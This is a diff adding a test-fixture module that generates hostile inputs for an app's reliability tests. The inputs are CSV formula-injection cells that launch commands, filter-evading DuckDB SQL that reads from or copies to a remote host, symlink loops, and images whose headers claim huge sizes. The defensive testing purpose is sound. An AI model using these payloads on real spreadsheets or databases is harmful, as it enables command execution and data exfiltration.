@@ -1,0 +1,139 @@
+/**
+ * The bad-input corpus, generated (never committed as binaries): every hostile input and fault the
+ * reliability tests use, by issue 12's rows. Deterministic: the same call makes the same bytes.
+ */
+
+import {chmodSync, mkdirSync, symlinkSync, writeFileSync} from "node:fs";
+import path from "node:path";
+import {encode} from "fast-png";
+
+/** Cell values a spreadsheet would run as formulas (OWASP's CSV injection list, and its variants). */
+export const formulaCells: readonly string[] = [
+  "=1+1",
+  '=HYPERLINK("http://203.0.113.1/x","click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  '=cmd|"/c notepad"!A1, with "quotes"'
+];
+
+/**
+ * SQL that tries to reach another host, the URL built at run time so no text filter can see it
+ * (the ways issue 12 found through the old regex guard, and more). `port`: a local server that
+ * stands for the remote host and must receive nothing.
+ */
+export function remoteSqlStatements(port: number): string[] {
+  const host = `127.0.0.1:${port}`;
+  const chr = (text: string) => [...text].map((c) => `chr(${c.charCodeAt(0)})`).join(" || ");
+  return [
+    `SELECT * FROM read_csv('htt' || 'p://${host}/x.csv')`,
+    `SELECT * FROM read_csv(concat('http', '://', '${host}', '/x.csv'))`,
+    `SELECT * FROM read_csv(${chr("http")} || '://${host}/x.csv')`,
+    `SELECT * FROM read_csv('s3' || '://bucket/x.csv')`,
+    `SELECT * FROM read_csv_auto(lower('HTTP://${host.toUpperCase()}/x.csv'))`,
+    `SELECT * FROM read_parquet('http://${host}/x.parquet')`,
+    `SELECT * FROM read_text('http://${host}/x.csv')`,
+    `SELECT * FROM read_blob('http://${host}/x.csv')`,
+    `ATTACH 'http://${host}/db.duckdb' AS remote`,
+    `COPY (SELECT 1) TO 'http://${host}/out.csv'`,
+    `LOAD httpfs`,
+    `INSTALL httpfs`,
+    `SET custom_extension_repository = 'http://${host}'`,
+    `SET disabled_filesystems = ''`
+  ];
+}
+
+// ---------------------------------------------------------------------------------------------
+// Images and folders. Everything is written by code here; nothing binary is committed.
+
+
+/** A grey 8-bit PNG whose pixel (x, y) is `value(x, y)` (0-255). */
+export function greyPng(width: number, height: number, value: (x: number, y: number) => number): Uint8Array {
+  const data = new Uint8Array(width * height);
+  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) data[y * width + x] = value(x, y);
+  return encode({width, height, data, channels: 1, depth: 8});
+}
+
+/**
+ * Blank and near-constant images (issue 12, item 6: the OOD gate's to judge): white, mid grey,
+ * black, a single pixel, and a smooth horizontal ramp. Only the images; what the gate must say
+ * about them belongs to the gate's own tests.
+ */
+export function blankImages(size = 256): {name: string; bytes: Uint8Array}[] {
+  return [
+    {name: "blank-white.png", bytes: greyPng(size, size, () => 255)},
+    {name: "blank-grey.png", bytes: greyPng(size, size, () => 128)},
+    {name: "blank-black.png", bytes: greyPng(size, size, () => 0)},
+    {name: "blank-1x1.png", bytes: greyPng(1, 1, () => 128)},
+    {name: "blank-ramp.png", bytes: greyPng(size, size, (x) => Math.round((255 * x) / (size - 1)))}
+  ];
+}
+
+/** Two non-UTF-8 file names (Latin-1 "é" and "è" bytes) that a lossy decoding turns into the same text. */
+export const NON_UTF8_NAMES = [Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x2e, 0x70, 0x6e, 0x67]), Buffer.from([0x63, 0x61, 0x66, 0xe8, 0x2e, 0x70, 0x6e, 0x67])];
+
+export interface HostileFolder {
+  /** The images folder. */
+  images: string;
+  /** Readable images, relative. */
+  good: string[];
+  /** Paths that must each get an errors row, with the code it must carry. */
+  problems: Record<string, string>;
+  /** Shown paths of the two non-UTF-8 files (each byte outside ASCII as \xNN). */
+  nonUtf8: string[];
+}
+
+/**
+ * A folder of images with the file-system faults of issue 12, item 5: a dangling link, a link to
+ * itself, a link to a folder above it, two files whose names are not UTF-8, and (when `unreadable`)
+ * a folder with mode 000 (only refused to users other than root).
+ */
+export function hostileFolder(images: string, {unreadable = false} = {}): HostileFolder {
+  mkdirSync(path.join(images, "sub"), {recursive: true});
+  const image = (seed: number) => greyPng(48, 40, (x, y) => (x * 7 + y * 3 * seed + seed * 31) % 256);
+  writeFileSync(path.join(images, "a.png"), image(1));
+  writeFileSync(path.join(images, "sub/b.png"), image(2));
+  symlinkSync("missing.png", path.join(images, "gone.png"));
+  symlinkSync("self.png", path.join(images, "self.png"));
+  symlinkSync("..", path.join(images, "sub/back"));
+  writeFileSync(Buffer.concat([Buffer.from(images + path.sep), NON_UTF8_NAMES[0]!]), image(3));
+  writeFileSync(Buffer.concat([Buffer.from(images + path.sep), NON_UTF8_NAMES[1]!]), image(4));
+  const problems: Record<string, string> = {"gone.png": "dangling-link", "self.png": "link-loop", "sub/back": "link-loop"};
+  if (unreadable) {
+    mkdirSync(path.join(images, "locked"));
+    writeFileSync(path.join(images, "locked/c.png"), image(5));
+    chmodSync(path.join(images, "locked"), 0o000);
+    problems["locked"] = "unreadable-folder";
+  }
+  return {images, good: ["a.png", "sub/b.png"], problems, nonUtf8: ["caf\\xe9.png", "caf\\xe8.png"]};
+}
+
+/**
+ * Valid-looking images that claim to be huge while the file is tiny: only the header is real, which
+ * is all a decoder may read before deciding whether it can afford the image.
+ */
+export function hugeImageHeaders(): {name: string; bytes: Uint8Array; width: number; height: number}[] {
+  // JPEG: SOI, a baseline frame header (SOF0) for width x height x components, and EOI.
+  const jpeg = (width: number, height: number, components: number) => {
+    const sof = [0xff, 0xc0, 0, 8 + 3 * components, 8, height >> 8, height & 0xff, width >> 8, width & 0xff, components];
+    for (let c = 0; c < components; c++) sof.push(c + 1, 0x11, 0);
+    return Uint8Array.from([0xff, 0xd8, ...sof, 0xff, 0xd9]);
+  };
+  return [
+    {name: "huge-8000x8000-rgb.jpg", bytes: jpeg(8000, 8000, 3), width: 8000, height: 8000},
+    {name: "huge-8192x8191-rgba16.png", bytes: pngHeaderOnly(8192, 8191, 16, 6), width: 8192, height: 8191}
+  ];
+}
+
+/** A PNG signature and IHDR (nothing else): enough for the header readers. */
+function pngHeaderOnly(width: number, height: number, bitDepth: number, colourType: number): Uint8Array {
+  const out = new Uint8Array(33);
+  out.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
+  const view = new DataView(out.buffer);
+  view.setUint32(16, width);
+  view.setUint32(20, height);
+  out.set([bitDepth, colourType, 0, 0, 0], 24);
+  return out; // the CRC is not read by the header readers
+}
